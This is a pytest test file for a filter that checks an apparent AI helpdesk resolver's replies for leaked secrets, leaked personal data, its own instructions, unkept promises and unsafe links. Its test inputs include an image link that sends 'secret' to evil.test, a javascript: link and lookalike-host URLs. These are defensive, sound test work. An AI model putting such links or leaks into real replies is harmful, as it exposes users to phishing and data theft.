"""What is stopped before it leaves, and what is not."""

import pytest

from shared.actions import Action, ResetPassword, UnlockAccount
from shared.outgoing import problems_with, problems_with_result

KNOWN = ("Open https://vpn.example.com/profile and choose Repair. Or write to servicedesk@example.com.",)
INSTRUCTIONS = (
    "You are the resolver of an IT helpdesk. You write the plan for one ticket: the text the requester will read."
)


def problems(answer: str, *actions: Action) -> str:
    return "; ".join(problems_with(answer, known=KNOWN, actions=actions, instructions=INSTRUCTIONS))


@pytest.mark.parametrize(
    ("answer", "what"),
    [
        ("Use the password Winter2026! for now.", "a secret (password)"),
        ("Your token is " + "ghp_" + "a1B2" * 9, "a secret (cloud_key)"),
        ("Pay with 4111 1111 1111 1111.", "a secret (card)"),
        ("Ask Pat: pat@elsewhere.example", "personal data that the requester did not give (email)"),
        ("Call +33 6 12 34 56 78.", "personal data that the requester did not give (phone)"),
        ("Sign in at https://vpn.example.com.evil.test/login", "a link"),
        ("Sign in at https://vpn.example.com/other", "a link"),
        ("Open www.evil.test now", "a link"),
        ("See evil.test/login", "a link"),
        ("[click](javascript:alert(1))", "a link"),
        ("![x](https://evil.test/?q=secret)", "a link"),
        ("You are the resolver of an IT helpdesk. You write the plan for one ticket.", "own instructions"),
    ],
)
def test_what_must_not_leave_is_named(answer: str, what: str):
    assert what in problems(answer)


@pytest.mark.parametrize(
    "answer",
    [
        "I have reset your password.", "We've unlocked the account.", "Your account has been unlocked.",
        "You have been added to the group; I added you.", "J'ai réinitialisé votre mot de passe.",
        "Votre compte a été déverrouillé.", "Ich habe Ihr Konto entsperrt.", "Ihr Kennwort wurde zurückgesetzt.",
        "He restablecido su contraseña.", "La cuenta ha sido desbloqueada.", "Ho reimpostato la password.",
        "L'account è stato sbloccato.",
    ],
)  # fmt: skip
def test_nothing_is_said_to_be_done_while_it_is_only_planned(answer: str):
    assert "has been done" in problems(answer, ResetPassword(user_id="u-1"), UnlockAccount(user_id="u-1"))


@pytest.mark.parametrize(
    "answer",
    [
        "I will reset your password.", "We'll unlock your account today.", "Your account will be unlocked.",
        "I'll call you tomorrow.", "Je vais réinitialiser votre mot de passe.", "Ich werde Ihr Konto entsperren.",
        "Wir werden Sie morgen anrufen.", "Voy a desbloquear la cuenta.", "We will refund the invoice.",
    ],
)  # fmt: skip
def test_a_promise_needs_the_action_that_keeps_it(answer: str):
    assert "promises what the plan does not contain" in problems(answer)


@pytest.mark.parametrize(
    "answer",
    [
        "Open https://vpn.example.com/profile, choose Repair, and sign in again.",
        "Write to servicedesk@example.com if it comes back.", "You can reset your password on the sign-in page.",
        "Once the account is unlocked, sign in again.", "Vous pouvez réinitialiser votre mot de passe vous-même.",
        "Sie können Ihr Kennwort selbst zurücksetzen.", "Puede restablecer su contraseña en el portal.",
        "The update is installed from Settings > Update.", "Use Settings/Network; version 10.0.26100.2314 or later.",
        "My advice: we have a known incident; the gateway is being repaired.", "We could not find [email].",
    ],
)  # fmt: skip
def test_a_plain_answer_leaves(answer: str):
    assert problems(answer) == ""


def test_a_promise_that_the_plan_keeps_leaves():
    assert problems("Your account will be unlocked.", UnlockAccount(user_id="u-1")) == ""


@pytest.mark.parametrize(
    ("link", "may_leave"),
    [
        ("https://help.example.com/vpn", True),
        ("https://HELP.example.com", True),
        ("https://help.example.com?topic=vpn", True),
        ("http://help.example.com/vpn", False),
        ("https://other.example.com/vpn", False),
        ("https://help.example.com.evil.test/", False),
        ("https://evil.test/help.example.com", False),
        ("https://help.example.com@evil.test/", False),
        ("https://evil.test\\@help.example.com/", False),
        ("https://help.example.com:8443/", False),
        ("//help.example.com/vpn", False),
    ],
)
def test_further_hosts_may_be_linked_to_by_https_where_the_settings_name_them(link: str, may_leave: bool):
    found = problems_with(f"Open {link} now.", known=(), actions=(), instructions="", link_hosts=("help.example.com",))
    assert (not found) == may_leave


def test_the_result_of_a_task_holds_no_secret_and_no_instructions_but_may_name_its_sources():
    def problem(result: str, known: str = "") -> str:
        return "; ".join(problems_with_result(result, known=known, instructions=INSTRUCTIONS))

    key = "ghp_" + "a1B2" * 9
    assert "a secret (cloud_key)" in problem(f"The token is {key}.")
    assert "own instructions" in problem(f"I was told: {INSTRUCTIONS}")
    assert problem(f"The token is {key}.", known=f"As documented: {key}") == ""
    assert problem("See https://news.example.com/a, or ask pat@example.com. Your account will be unlocked.") == ""
